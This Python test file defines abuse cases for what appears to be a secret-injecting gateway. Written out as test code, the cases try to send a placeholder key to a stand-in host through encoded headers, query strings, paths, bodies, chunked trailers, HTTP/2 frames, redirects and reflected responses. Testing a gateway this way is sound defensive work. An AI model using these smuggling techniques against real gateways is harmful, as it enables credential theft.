# SPDX-License-Identifier: Apache-2.0
"""Cases of the abuse table: placeholders where they may not go, servers that are not who they say, and servers that tell
what they were shown."""
from abuse_cases import case, told
from abuse_room import BAD
from abuse_servers import FORMS

SECRETS = 'import base64 as b64, gzip as gz, urllib.parse as up\n'


def lost(seen):
    """The placeholder, the value, or a made-up one in its place came to a server that it is not for."""
    return any(raw for name, raw in seen.raw.items() if name != 'api') or bool(seen.streams) or \
        b'leak' in seen.raw['api']


# To a host that the secret is not for. E: every byte as an escape.
for name, what, code in [
    ('header', 'in a header', 'request(host=OTHER, headers=[("X-Key", KEY)])'),
    ('authorization', 'as Bearer', 'request(host=OTHER, headers=[("Authorization", "Bearer " + KEY)])'),
    ('cookie', 'in a cookie', 'request(host=OTHER, headers=[("Cookie", "a=b; k=" + KEY)])'),
    ('user-agent', 'in User-Agent', 'request(host=OTHER, headers=[("User-Agent", "x/" + KEY)])'),
    ('header-name', 'as the name of a header', 'request(host=OTHER, headers=[("X-" + KEY, "1")])'),
    ('second-header', 'in the last of a hundred headers',
     'request(host=OTHER, headers=[("X-%d" % i, "y") for i in range(99)] + [("X", KEY)])'),
    ('basic', 'in base64 of Basic', 'request(host=OTHER, headers=[("Authorization", "Basic " + '
     'b64.b64encode(("u:" + KEY).encode()).decode())])'),
    ('base64-1', 'in base64, one byte further', 'request(host=OTHER, headers=[("X", b64.b64encode(("a" + KEY).encode()).decode())])'),
    ('base64-2', 'in base64, two bytes further', 'request(host=OTHER, headers=[("X", b64.b64encode(("ab" + KEY).encode()).decode())])'),
    ('base64-url', 'in base64url, without padding',
     'request(host=OTHER, headers=[("X", b64.urlsafe_b64encode(KEY.encode()).decode().rstrip("="))])'),
    ('percent-header', 'percent-encoded in a header', 'request(host=OTHER, headers=[("X", "".join("%%%02x" % ord(c) for c in KEY))])'),
    ('json-header', 'as JSON escapes in a header', 'request(host=OTHER, headers=[("X", "".join("\\\\u%04x" % ord(c) for c in KEY))])'),
    ('query', 'in the query', 'request("/?a=1&k=" + KEY, OTHER)'),
    ('query-percent', 'percent-encoded in the query', 'request("/?k=" + "".join("%%%02X" % ord(c) for c in KEY), OTHER)'),
    ('query-name', 'as the name of a parameter', 'request("/?%s=1" % KEY, OTHER)'),
    ('query-base64', 'in base64 in the query', 'request("/?k=" + b64.b64encode(KEY.encode()).decode().rstrip("="), OTHER)'),
    ('path', 'in the path', 'request("/a/%s/b" % KEY, OTHER)'),
    ('path-percent', 'percent-encoded in the path', 'request("/" + "".join("%%%02x" % ord(c) for c in KEY), OTHER)'),
    ('path-dots', 'in a part of the path that is taken away', 'request("/%s/../b" % KEY, OTHER)'),
    ('method', 'as the method', 'request("/", OTHER, KEY)'),
    ('body', 'in a body', 'request("/", OTHER, "POST", body="k=" + KEY)'),
    ('body-json', 'as JSON escapes in a body', 'request("/", OTHER, "POST", body="".join("\\\\u%04x" % ord(c) for c in KEY))'),
    ('body-json-mixed', 'partly as JSON escapes', 'request("/", OTHER, "POST", body="".join(c if i % 2 else "\\\\u%04X" % ord(c) for i, c in enumerate(KEY)))'),
    ('body-percent', 'percent-encoded in a body', 'request("/", OTHER, "POST", body="".join("%%%02x" % ord(c) for c in KEY))'),
    ('body-base64', 'in base64 in a body', 'request("/", OTHER, "POST", body=b64.b64encode(b"x" + KEY.encode()))'),
    ('body-multipart', 'in a part of a form', 'request("/", OTHER, "POST", [("Content-Type", "multipart/form-data; boundary=b")], '
     '"--b\\r\\nContent-Disposition: form-data; name=k\\r\\n\\r\\n%s\\r\\n--b--\\r\\n" % KEY)'),
]:
    case('misuse', name, 'a placeholder to a host it is not for, ' + what, SECRETS + 'r = secure(%s, OTHER)' % code, lost, 'key')
CHUNKED = 'b"POST / HTTP/1.1\\r\\nHost: other.example.com\\r\\nTransfer-Encoding: chunked\\r\\n\\r\\n"'
for name, what, code in [
    ('body-chunks', 'a chunk for each byte', 'r = secure(%s + b"".join(b"1\\r\\n%%c\\r\\n" %% c for c in KEY.encode()) + b"0\\r\\n\\r\\n", OTHER)' % CHUNKED),
    ('body-segments', 'a TLS record for each byte', 'r = secure(request("/", OTHER, "POST", body=KEY), OTHER, part=1)'),
    ('trailer', 'in a trailer', 'r = secure(%s + b"0\\r\\nX-Key: " + KEY.encode() + b"\\r\\n\\r\\n", OTHER)' % CHUNKED),
    ('pipelined', 'in the second of two requests', 's = tls(OTHER)\ns.sendall(request("/", OTHER))\nread_answer(s)\n'
     'r = talk(s, request("/leak", OTHER, headers=[("X", KEY)]))'),
    ('plain', 'in the clear', 'r = plain(request("/", OTHER, headers=[("X", KEY)]), OTHER)'),
]:
    effect = (lambda seen: b'leak' in seen.raw['other']) if name == 'pipelined' else \
        (lambda seen: any(r.trailers for r in seen.requests)) if name == 'trailer' else \
        (lambda seen: any(r.body_length for r in seen.requests)) if name == 'body-chunks' else lost
    case('misuse', name, 'a placeholder to a host it is not for, ' + what, code, effect, 'key')
# To its own host, in a place or a way that is not the secret's.
for name, what, code in [
    ('own-plain', 'to its host in the clear', 'r = plain(request("/open/leak", headers=[("Authorization", "Bearer " + KEY)]))'),
    ('own-body', 'to its host in a body, where it is not put', 'r = secure(request("/open/leak", method="POST", body=KEY))'),
    ('own-path', 'to its host in the path', 'r = secure(request("/open/leak/" + KEY))'),
    ('own-other-path', 'to a path of its host that it is not for', 'r = secure(request("/smuggled?leak", headers=[("X", KEY)]))'),
    ('own-base64', 'to its host in base64 that is not Basic',
     SECRETS + 'r = secure(request("/open/leak", headers=[("X", b64.b64encode(KEY.encode()).decode())]))'),
]:
    case('misuse', name, 'a placeholder ' + what, code, lost, 'key')
for name, what, code in [
    ('h2-header', 'in a header of HTTP/2', 'r = bad_head(lambda k: fields(k, headers=[("x", KEY)]), OTHER)'),
    ('h2-never-indexed', 'in a header that is never indexed', 'r = bad_head(lambda k: hpack.encode(fields(k)) + hpack.literal("x", KEY, 0x10), OTHER)'),
    ('h2-path', 'in :path', 'r = bad_head(lambda k: fields(k, path="/?k=" + KEY), OTHER)'),
    ('h2-data', 'in DATA', 'r = bad_head(lambda k: fields(k, method="POST"), OTHER, KEY.encode())'),
    ('h2-trailer', 'in a trailer of HTTP/2', 'r = bad_head(lambda k: fields(k, method="POST"), OTHER, b"x", [("x", KEY)])'),
]:
    case('misuse', name, 'a placeholder to a host it is not for, ' + what, code,
         lambda seen, name=name: any(m.ended and m.reset is None for m in seen.streams) or
         any(r.target.startswith(('/open', '/?')) and (r.method == 'GET' or (r.trailers if name.endswith('trailer') else r.body_length)) for r in seen.requests), 'key')
case('misuse', 'h2-data-frames', 'a placeholder to a host it is not for, a DATA frame for each byte',
     'k = h2(OTHER)\ns = k.request("/open/x", "POST", end=False)\n'
     'for c in KEY.encode(): k.data(s, bytes([c]))\nk.data(s, b"", True)\nr = outcome(k, s)',
     lambda seen: any(m.ended and m.reset is None for m in seen.streams) or any(r.body_length for r in seen.requests), 'key')
case('misuse', 'redirect', 'a client that follows a redirect with its headers',
     's = tls(API)\ns.sendall(request("/open/reflect/location", headers=[("Authorization", "Bearer " + KEY)]))\n'
     'to = read_answer(s).headers["location"]\nr = secure(request(to.partition(".com")[2], OTHER, headers=[("Authorization", "Bearer " + KEY)]), OTHER)',
     lambda seen: bool(seen.raw['other']), 'key')

# Before the server has shown who it is, nothing is sent.
for name in BAD:
    case('server', name.partition('.')[0], 'a secret to a server whose certificate does not do (%s)' % name,
         'r = secure(request("/", %r, headers=[("Authorization", "Bearer " + KEY)]), %r)' % (name, name))

# Answers that tell the key.
for form in FORMS:
    case('told', form, 'a server that tells the key: ' + form, 'r = reflect(%r)' % form, told)
case('told', 'trace', 'TRACE shows what was sent', 'r = reflect("x", method="TRACE")', told)
case('told', 'accept-encoding', 'a client that asks for a coding the gateway cannot undo',
     'r = reflect("gzip", [("Accept-Encoding", "br, zstd, x-rot13")])', told)
case('told', 'ranges', 'two parts of a document, with the key across their border',
     'part = lambda a, b: rest_of(reflect("range", [("Range", "bytes=%d-%d" % (a, b))]))\n'
     'def rest_of(x): return x.partition(b"\\r\\n\\r\\n")[2].partition(b"\\n")[0]\n'
     'half = 10 + len(KEY) // 2\nr = part(0, half) + part(half + 1, 999)', told)
case('told', 'ranges-bytes', 'a document byte by byte',
     'part = lambda a, b: rest_of(reflect("range", [("Range", "bytes=%d-%d" % (a, b))]))\n'
     'def rest_of(x): return x.partition(b"\\r\\n\\r\\n")[2].partition(b"\\n")[0]\n'
     'r = b"".join(part(i, i) for i in range(10, 10 + len(KEY)))', told)
for where in ('body', 'header', 'frames', 'trailer', 'early', 'gzip'):
    case('told', 'h2-' + where, 'a server that tells the key over HTTP/2: ' + where,
         'import gzip as gz\nk = h2()\nm = k.get("/open/" + %r, headers=[("authorization", "Bearer " + KEY)])\nr = told(m)\n'
         'if bytes(m.body[:2]) == b"\\x1f\\x8b": r += gz.decompress(bytes(m.body)).decode()' % where, told)
case('told', 'h2-ranges', 'a document in two parts over HTTP/2, with the key across their border',
     'k = h2()\nhalf, text = 10 + len(KEY) // 2, lambda m: bytes(m.body).partition(b"\\n")[0]\n'
     'part = lambda r: text(k.get("/open/range", headers=[("authorization", "Bearer " + KEY), ("range", "bytes=" + r)]))\n'
     'r = (part("0-%d" % half) + part("%d-999" % (half + 1))).decode()', told)
case('told', 'own-error', 'an error page of the gateway', 'r = unpack(secure(request("/closed?" + KEY, headers=[("X", KEY)]))[0]) '
     'if not OUTSIDE else reflect("error-401")', told)
